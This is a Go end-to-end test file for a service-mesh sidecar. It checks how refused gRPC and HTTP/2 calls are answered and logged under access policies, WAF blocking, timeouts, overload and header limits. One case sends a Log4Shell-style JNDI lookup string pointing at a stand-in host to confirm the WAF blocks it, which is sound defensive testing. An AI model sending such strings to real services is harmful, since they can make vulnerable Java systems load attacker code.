package e2e

import (
	"io"
	"net"
	"net/http"
	"testing"

	"golang.org/x/net/http2"

	"github.com/outrider-mesh/outrider/internal/testkit"
	"github.com/outrider-mesh/outrider/test/rawh2"
)

// The methods that these tests call.
const (
	charge = "/shop.Payments/Charge"
	refund = "/shop.Payments/Refund"
)

// grpcHello answers any call with nothing and OK.
func grpcHello(w http.ResponseWriter, r *http.Request) {
	_, _ = io.Copy(io.Discard, r.Body)
	w.Header().Set("Content-Type", "application/grpc")
	w.Header().Set("Trailer", "Grpc-Status")
	w.WriteHeader(http.StatusOK)
	w.Header().Set("Grpc-Status", "0")
}

func isOK(t testing.TB, a *rawh2.Answer) {
	t.Helper()
	if a.Last("grpc-status") != "0" || len(a.Heads) != 2 {
		t.Errorf("the call was answered with %+v", a.Heads)
	}
}

// onlyOne takes one stream at a time and answers none.
func onlyOne(asked chan<- struct{}) func(*rawh2.Peer) {
	return func(p *rawh2.Peer) {
		for {
			f, err := p.Next()
			if err != nil {
				return
			}
			if _, ok := f.(*http2.MetaHeadersFrame); ok {
				asked <- struct{}{}
			}
		}
	}
}

// A call that is refused is told so in gRPC's own words, by whichever sidecar.
func TestGRPCRefusals(t *testing.T) {
	t.Parallel()
	app := serveH2(t, grpcHello)
	methods := access("Allow", `{from: [{principals: ["`+checkout+`"]}], to: [{methods: [POST], paths: ["`+charge+`"]}]}`)
	inbound := func(p *pair) *testkit.Sidecar { return p.in }
	outbound := func(p *pair) *testkit.Sidecar { return p.out }
	cases := []struct {
		name         string
		in, out      side
		method       string
		fields       []string
		by           func(*pair) *testkit.Sidecar
		code, reason string
	}{
		{"a method that is not allowed", side{forward: app, policies: methods}, side{}, refund, nil, inbound, "7", "access_denied"},
		{"a method that is denied", side{forward: app, policies: allowMesh + next + access("Deny", `{to: [{paths: ["`+refund+`"]}]}`)}, side{}, refund, nil, inbound, "7", "access_denied"},
		{"a caller that is not allowed", side{forward: app, policies: access("Allow", `{from: [{principals: ["`+intruder+`"]}]}`)}, side{}, charge, nil, inbound, "7", "access_denied"},
		{"an attack in the metadata", side{forward: app, policies: allowMesh + next + inspection("mode: Block")}, side{}, charge, []string{"user-agent", "${jndi:ldap://evil.test/a}"}, inbound, "7", "waf_blocked"},
		{"no time to inspect", side{forward: app, policies: allowMesh + next + inspection("mode: Block"), spec: inNoTime}, side{}, charge, nil, inbound, "14", "waf_unavailable"},
		{"the application is down", side{forward: nobody(t)}, side{}, charge, nil, inbound, "14", "connect"},
		{"the application does not speak HTTP/2", side{forward: serveTCP(t, echo)}, side{}, charge, nil, inbound, "14", "upstream_protocol"},
		{"too much metadata", side{forward: app}, side{spec: "  limits: {headerCount: 20}"}, charge, manyFields(30), outbound, "8", "head_too_large"},
		{"too much metadata for the other end", side{forward: app, spec: "  limits: {headerCount: 20}"}, side{}, charge, manyFields(30), inbound, "8", "head_too_large"},
		{"the other sidecar is another workload", side{forward: app}, side{server: intruder}, charge, nil, outbound, "14", "upstream_tls_failed"},
	}
	const least = 10
	if len(cases) < least {
		t.Errorf("%d cases, want %d", len(cases), least)
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			p := newPair(t, c.in, c.out)
			caller := dialH2(t, p.out.Address(t, "out"))
			record := isRefusal(t, c.by(p), caller.grpc(1, c.method, c.fields...), c.code, c.reason)
			if record["protocol"] != "http2" || record["status"] != float64(200) {
				t.Errorf("the record says %v", record)
			}
			if c.reason == "access_denied" { // the caller learns no more than that; the log, why
				if detail, _ := record["detail"].(string); detail == "" || record["path"] != c.method {
					t.Errorf("the record says %v", record)
				}
			}
			// The connection is there for what is allowed.
			if c.method == refund {
				isOK(t, caller.grpc(3, charge))
			}
		})
	}
}

func manyFields(n int) (fields []string) {
	for range n {
		fields = append(fields, "x-more", "y")
	}
	return fields
}

// A destination without any endpoint that answers is not dialed again for each call.
func TestGRPCWithoutADestination(t *testing.T) {
	t.Parallel()
	p := newPair(t, side{forward: serveH2(t, grpcHello)}, side{})
	silent := serveTCP(t, func(c *net.TCPConn) { _, _ = io.Copy(io.Discard, c) })
	lonely := side{source: p.outID, to: []string{silent}, spec: "  limits: {upstreamConnectTimeout: 50ms}"}.start(t)
	caller := dialH2(t, lonely.Address(t, "out"))
	isRefusal(t, lonely, caller.grpc(1, charge), "14", "connect_timeout")
	isRefusal(t, lonely, caller.grpc(3, charge), "14", "no_destination")
}

// As many streams as the application takes, on as many connections as there may be:
// the next call is refused at once instead of waiting.
func TestGRPCOverload(t *testing.T) {
	t.Parallel()
	asked := make(chan struct{}, 8)
	app := serveRaw(t, onlyOne(asked), http2.Setting{ID: http2.SettingMaxConcurrentStreams, Val: 1})
	p := newPair(t, side{forward: app, spec: "  limits: {upstreamConnectionsPerDestination: 1}"}, side{})
	caller := dialH2(t, p.out.Address(t, "out"))
	caller.must(caller.Call(1, true, charge))
	<-asked
	isRefusal(t, p.in, caller.grpc(3, charge), "14", "overloaded")
	caller.must(caller.Framer.WriteRSTStream(1, http2.ErrCodeCancel))
	p.in.Log.AwaitReason(t, "client_closed")
}

// What is no gRPC is refused in the words of HTTP, over HTTP/2 as well.
func TestHTTP2Refusals(t *testing.T) {
	t.Parallel()
	p := newPair(t, side{forward: serveH2(t, hello), policies: access("Allow", `{to: [{paths: ["/ok"]}]}`)}, side{})
	caller := dialH2(t, p.out.Address(t, "out"))
	isHello(t, caller.ask(1, "/ok"))
	a := caller.ask(3, "/other")
	id := a.Last("x-outrider-decision")
	if a.Last(":status") != "403" || a.Last("proxy-status") != `outrider; error=http_request_denied; details="access_denied"` || id == "" {
		t.Errorf("the refusal is %+v, %q", a.Heads, a.Body)
	}
	p.in.Log.Await(t, "the decision", func(r map[string]any) bool { return r["decision_id"] == id })
	isHello(t, caller.ask(5, "/ok"))
}
